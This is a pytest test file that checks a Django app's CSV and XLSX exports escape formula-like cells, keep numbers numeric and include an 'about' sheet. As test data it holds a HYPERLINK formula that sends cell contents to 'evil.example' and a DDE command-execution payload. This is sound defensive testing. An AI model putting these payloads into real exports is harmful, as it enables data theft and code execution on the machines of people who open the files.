"""Every CSV and XLSX export neutralises text a spreadsheet would run as a formula."""

from __future__ import annotations

import pytest
from django.test import Client

from remento.people.models import Employee
from tests.outcomes.exports.conftest import World
from tests.outcomes.exports.helpers import column, download, rows_of, xlsx_sheet

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("first", DANGEROUS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_cell_starting_like_a_formula_is_stored_with_a_leading_apostrophe(
    world: World, mentor: Employee, coordinator_client: Client, first: str, fmt: str
) -> None:
    title = f"{first}{PAYLOAD}"
    mentor.title = title
    mentor.save(update_fields=["title"])

    rows = rows_of(download(coordinator_client, world.program, "participants", fmt), fmt)

    assert f"'{title}" in column(rows, "Job title")
    assert title not in column(rows, "Job title")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_name_in_every_export_is_neutralised_too(
    world: World, mentee: Employee, coordinator_client: Client, fmt: str
) -> None:
    mentee.first_name, mentee.last_name = "=cmd|' /C calc'!A0", "Senior"
    mentee.save(update_fields=["first_name", "last_name"])

    for slug, heading in (("pairs", "Mentee"), ("meetings", "Mentee"), ("checkins", "Name")):
        rows = rows_of(download(coordinator_client, world.program, slug, fmt), fmt)
        assert "'=cmd|' /C calc'!A0 Senior" in column(rows, heading), slug


def test_numbers_stay_numbers_in_the_xlsx(world: World, coordinator_client: Client) -> None:
    rows = xlsx_sheet(download(coordinator_client, world.program, "participants", "xlsx"))

    assert sorted(column(rows, "Level")) == [2.0, 2.0, 9.0, 9.0]
    checkins = xlsx_sheet(download(coordinator_client, world.program, "checkins", "xlsx"))
    assert column(checkins, "Rating (1–5)") == [4.0]
    assert column(checkins, world.question.text) == [5.0]  # a scale answer is a number


def test_the_xlsx_says_what_it_holds_on_an_about_sheet(
    world: World, coordinator_client: Client
) -> None:
    about = xlsx_sheet(download(coordinator_client, world.program, "pairs", "xlsx"), sheet=2)

    facts = {row[0]: row[1] for row in about[1:]}
    assert facts["Program"] == world.program.name
    assert "private notes" in facts["Never contains"]
    assert facts["Exported by"] == "Cora Ordinator"
